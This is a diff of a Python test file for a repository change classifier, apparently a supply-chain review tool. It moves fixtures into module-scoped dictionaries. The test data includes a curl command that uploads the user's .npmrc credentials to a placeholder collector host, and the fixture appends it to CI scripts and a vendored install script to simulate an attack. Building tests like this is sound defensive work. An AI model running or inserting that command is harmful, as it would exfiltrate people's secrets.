@@ -9,7 +9,8 @@ from __future__ import annotations
 
 import pytest
 
-from tests.gitrepo import GitRepo
+from gatekeeper.model import ClassifiedFile
+from tests.gitrepo import GitRepo, two_commits
 from tests.incli import tree_gate
 from tests.test_classify_context import tree_files
 
@@ -45,38 +46,35 @@ RUN = {
 EXFIL = "curl -s -d @\"$HOME/.npmrc\" https://collector.example.net/upload\n"
 
 
-@pytest.fixture
-def repo(git_repo: GitRepo) -> GitRepo:
-    git_repo.write(".github/workflows/release.yml", WORKFLOW)
-    git_repo.write("main.tf", MAIN_TF)
-    git_repo.write("node_modules/@acme/bootstrap/cloud-init.sh", "#!/bin/sh\napt-get update\n")
-    git_repo.write("node_modules/left-pad/index.js", "module.exports = (s, n) => s.padStart(n);\n")
-    git_repo.write("Gemfile", "source 'https://rubygems.org'\ngem 'fastlane'\n")
-    for path, text in RUN.items():
-        git_repo.write(path, text)
-    git_repo.commit("base")
-    for path, text in RUN.items():
-        git_repo.write(path, text + EXFIL)
-    git_repo.write("node_modules/@acme/bootstrap/cloud-init.sh", "#!/bin/sh\napt-get update\n" + EXFIL)
-    git_repo.write("node_modules/left-pad/index.js", "module.exports = (s, n, c) => s.padStart(n, c);\n")
-    git_repo.write("Gemfile", "source 'https://rubygems.org'\ngem 'fastlane', '~> 2.220'\n")
-    git_repo.commit("head")
-    return git_repo
+BASE = {".github/workflows/release.yml": WORKFLOW, "main.tf": MAIN_TF,
+        "node_modules/@acme/bootstrap/cloud-init.sh": "#!/bin/sh\napt-get update\n",
+        "node_modules/left-pad/index.js": "module.exports = (s, n) => s.padStart(n);\n",
+        "Gemfile": "source 'https://rubygems.org'\ngem 'fastlane'\n", **RUN}
+HEAD = {**{path: text + EXFIL for path, text in RUN.items()},
+        "node_modules/@acme/bootstrap/cloud-init.sh": "#!/bin/sh\napt-get update\n" + EXFIL,
+        "node_modules/left-pad/index.js": "module.exports = (s, n, c) => s.padStart(n, c);\n",
+        "Gemfile": "source 'https://rubygems.org'\ngem 'fastlane', '~> 2.220'\n"}
+
+
+@pytest.fixture(scope="module")
+def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, ClassifiedFile]:
+    """The change, classified with --tree once for the module's tests."""
+    repo, _, _ = two_commits(tmp_path_factory.mktemp("attack18") / "repo", BASE, HEAD)
+    return tree_files(repo)
 
 
 @pytest.mark.parametrize("path", sorted(RUN))
-def test_installed_code_ci_runs_is_ci(repo: GitRepo, path: str) -> None:
-    item = tree_files(repo)[path]
+def test_installed_code_ci_runs_is_ci(files: dict[str, ClassifiedFile], path: str) -> None:
+    item = files[path]
     assert (item.bucket, item.rule) == ("ci", "ci.context.ci-run"), item
 
 
-def test_installed_script_terraform_ships_is_iac(repo: GitRepo) -> None:
-    item = tree_files(repo)["node_modules/@acme/bootstrap/cloud-init.sh"]
+def test_installed_script_terraform_ships_is_iac(files: dict[str, ClassifiedFile]) -> None:
+    item = files["node_modules/@acme/bootstrap/cloud-init.sh"]
     assert item.bucket == "iac", item
 
 
-def test_installed_code_nothing_runs_and_named_manifest_stay_deps(repo: GitRepo) -> None:
-    files = tree_files(repo)
+def test_installed_code_nothing_runs_and_named_manifest_stay_deps(files: dict[str, ClassifiedFile]) -> None:
     assert (files["node_modules/left-pad/index.js"].bucket, files["Gemfile"].bucket) == ("deps", "deps")
 
 
